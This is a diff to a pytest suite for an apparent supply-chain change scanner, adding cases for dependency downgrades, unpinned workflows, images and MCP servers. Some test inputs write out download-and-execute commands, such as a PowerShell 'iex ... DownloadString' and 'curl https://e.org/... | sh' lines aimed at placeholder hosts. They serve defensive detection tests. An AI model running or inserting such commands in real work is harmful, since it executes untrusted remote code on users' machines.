@@ -124,6 +124,34 @@ def test_every_rule_has_examples_of_both_kinds_and_none_refuses() -> None:
         pytest.param("x.ps1\n+iex ((New-Object Net.WebClient).DownloadString('https://example.org/x'))", ["supply-piped-shell"], id="powershell"),
         pytest.param('main.go\n+x := "GOPROXY=https://example.org"', [], id="settings-in-compiled-code"),
         pytest.param('a.tf\n module "a" {\n   source = "https://example.org/a.zip"\n }\n+module "b" {\n+  source = "https://example.org/b.zip"\n+}', [], id="module-from-a-known-host"),
+        pytest.param("requirements.txt\n-a==2\n-b==2\n-c==2\n-d==2\n+a==1\n+b==1\n+c==1\n+d==1", ["supply-downgrade"], id="many-go-back"),
+        pytest.param("requirements.txt\n-a @ git+https://e.org/a@main\n+a @ git+https://e.org/a@main ; python_version > '3'", [], id="same-branch"),
+        pytest.param("Cargo.toml\n [dependencies]\n-a = {git='https://e.org/a', branch='main'}\n+[dev-dependencies]\n+a = {git='https://e.org/a', branch='main'}", [], id="same-branch-in-another-group"),
+        pytest.param('package.json\n-{"peerDependencies": {"a": "1.0.0"}}\n+{"peerDependencies": {"a": "*"}}', [], id="peers-are-wide"),
+        pytest.param('package.json\n-{}\n+{"overrides": {"a": "1.0.0"}}', [], id="override"),
+        pytest.param(f"requirements.txt\n-a @ git+https://e.org/a@{SHA}\n+a @ git+https://e.org/a@{SHA[::-1]}", [], id="revision-bumped"),
+        pytest.param("compose.yaml\n services: {a: {image: b:1}}\n-x: [\n+x: []", ["supply-image-undigested"], id="compose-not-readable-before"),
+        pytest.param(".github/workflows/a.yml\n-x: [\n+x: {steps: [{uses: a/b@v1}]}", ["supply-action-unpinned"], id="workflow-not-readable-before"),
+        pytest.param('prek.toml\n+[[repos]]\n+repo = "https://e.org/a"\n+rev = "main"', ["supply-hook-unpinned"], id="prek"),
+        pytest.param(".github/workflows/a.yml\n+x: " + "[" * 50 + "{uses: a/b@v1}" + "]" * 50, [], id="too-deep-for-a-workflow"),
+        pytest.param(f".gitlab-ci.yml\n+include: [{{remote: 'https://e.org/a.yml', integrity: sha256-x}}, {{component: e.org/a/b@{SHA}}}]", [], id="pinned-includes"),
+        pytest.param(".github/workflows/a.yml\n jobs:\n   a:\n     strategy: {matrix: {image: ['x'], include: [{image: a:1}]}}\n+    container: ${{ matrix.image }}", ["supply-image-undigested", "supply-image-variable"], id="matrix-of-images"),
+        pytest.param("Dockerfile\n+# FROM no:1\n+RUN --mount=type=bind,from=a/b:1 \\\n+  # no\n+  x\n+COPY --from=stage-of-bake /x /x\n+FROM scratch \\", ["supply-image-undigested"], id="dockerfile-mount"),
+        pytest.param("compose.yaml\n+services: {a: {image: '-x y'}}", [], id="no-reference"),
+        pytest.param("x.sh\n+pip install --index-url http://localhost:8080/simple a\n+# --index-url https://e.org\n+pip install a\n+npm config set registry https://e.org/npm\n+npm --registry x", ["supply-new-registry"], id="settings"),
+        pytest.param('a.tf\n module "a" {\n+  source = "terraform-aws-modules/vpc/aws"\n+  source = "app.e.org/a/b/c"\n+  source = "./x"\n }', ["supply-remote-resource"], id="module-registries"),
+        pytest.param('a.html\n <script src="https://e.org/a.js"></script>\n+<p>\n <script src="https://e.org/a.js"></script>', [], id="script-of-before"),
+        pytest.param('.mcp.json\n-{}\n+{"mcpServers": {"x": {"command": "npx", "args": ["--package=a", "b"]}, "y": {"command": "npx", "args": ["-y"]}}}', ["supply-mcp-server", "supply-mcp-unpinned"], id="package-option"),
+        pytest.param('.mcp.json\n-{}\n+{"mcpServers": {"x": {"command": "docker", "args": ["run", "--rm"]}}}', ["supply-mcp-server"], id="docker-without-an-image"),
+        pytest.param("x.ps1\n+iex (x); curl y", [], id="expression-and-another-command"),
+        pytest.param("go.mod\n module m\n+toolchain go1.24\n+replace a", [], id="other-directives"),
+        pytest.param('composer.json\n-{}\n+{"repositories": [{"type": "path", "url": "./x"}], "require": {}}', [], id="composer-path"),
+        pytest.param('package.json\n-{}\n+{"overrides": {"a": 1, "b": "$b"}}', [], id="odd-overrides"),
+        pytest.param('Cargo.lock\n [[package]]\n+name = "a"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n@ Cargo.toml\n [dependencies]\n+a = "1"', ["supply-new-dependency"], id="index-of-crates"),
+        pytest.param(".github/workflows/a.yml\n x: {steps: [{uses: a/b@v1}]}\n+y: 1", [], id="use-of-before"),
+        pytest.param("x.sh\n+# iex\n+x \\\n+curl a; b | sh", [], id="words-alone"),
+        pytest.param('examples/package.json\n+{"dependencies": {"a": "1", "b": "1"}}\n? package-lock.json', ["supply-new-dependency"], id="new-project-below-another-lock"),
+        pytest.param('build.gradle\n-dependencies { implementation("a:b:[1,2)") }\n+dependencies { implementation("a:b:(1,2),(3,") }', [], id="odd-interval"),
         pytest.param('a.html\n+<script\n+  src="//example.org/x.js">\n+</script>', ["supply-remote-resource"], id="script-over-lines"),
     ],
 )  # fmt: skip
@@ -241,6 +269,28 @@ def test_findings_say_where_and_how_to_repair() -> None:
     assert dict(finding.detail)["fix"]
 
 
+def test_the_line_of_what_was_there_before_and_of_what_is_not_written() -> None:
+    (finding,) = judge(snapshot('package.json\n {"scripts": {"postinstall":\n-"a"\n+"b"\n }}'))
+    assert (finding.rule, finding.line) == ("supply-install-script", 1)
+    findings = judge(snapshot("build.gradle\n+allowInsecureProtocol = true"))
+    assert [(finding.rule, finding.line) for finding in findings] == [("supply-verification-off", 0)]
+
+
+def test_no_more_commands_are_told_than_a_person_reads() -> None:
+    findings = judge(snapshot("x.sh\n+a" + "".join(f"\n+curl https://e.org/{number} | sh" for number in range(150))))
+    assert len(findings) == 26
+
+
+def test_what_is_asked_for_in_a_hundred_ways_cannot_be_read() -> None:
+    given = judge(snapshot("requirements.txt\n a==0.1\n" + "\n".join(f"+a=={number}" for number in range(1, 120))))
+    assert [finding.rule for finding in given] == ["supply-unreadable"]
+
+
+def test_a_command_that_the_end_of_the_file_cuts_off() -> None:
+    (finding,) = one(Change(ChangeKind.ADDED, "x.sh"), "curl https://e.org | sh \\")
+    assert finding.rule == "supply-piped-shell"
+
+
 def test_samples_and_mild_ones_are_notes() -> None:
     (sample,) = judge(snapshot("tests/fixtures/requirements.txt\n a\n+b"))
     assert sample.severity is Severity.NOTE
@@ -279,6 +329,7 @@ def test_rules_that_name_no_rule_are_an_error() -> None:
         ),
         pytest.param("Dockerfile", "COPY " + "--a=b " * 200_000, "", id="copy"),
         pytest.param("package-lock.json", '"node_modules/' * 100_000, "a\n", id="lock"),
+        pytest.param("package.json", '{"overrides": {"' + "a/" * 400_000 + '": "1"}}', "", id="overrides"),
     ],
 )
 def test_hostile_text_costs_no_more_than_its_length(path: str, text: str, before: str) -> None:
